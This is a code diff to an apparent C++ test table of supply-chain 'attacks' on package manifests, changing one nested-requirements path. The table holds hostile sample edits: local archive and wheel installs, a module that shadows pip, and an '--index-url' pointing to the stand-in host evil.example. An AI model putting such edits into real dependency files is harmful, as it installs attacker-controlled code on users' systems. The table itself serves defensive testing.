@@ -143,7 +143,7 @@ constexpr Attack kPackages[] = {
      R"({"packages": {"node_modules/a": {"version": "2", "resolved": "file:x.tgz"}}})"},
     {"requirements.txt", "a\n", "a\n./assets.tar.gz\n"},
     {"requirements.txt", "a\n", "a\nassets.whl\n"},
-    {"requirements.txt", "a\n", "a\n-r docs/notes.txt\n"},
+    {"requirements.txt", "a\n", "a\n-r paper/notes.txt\n"},
     {"dev-requirements.txt", "a\n", "--index-url https://evil.example/simple\na\n"},
     {"pip.py", "", "open('x')\n"},
     {"pip/__main__.py", "", "open('x')\n"},
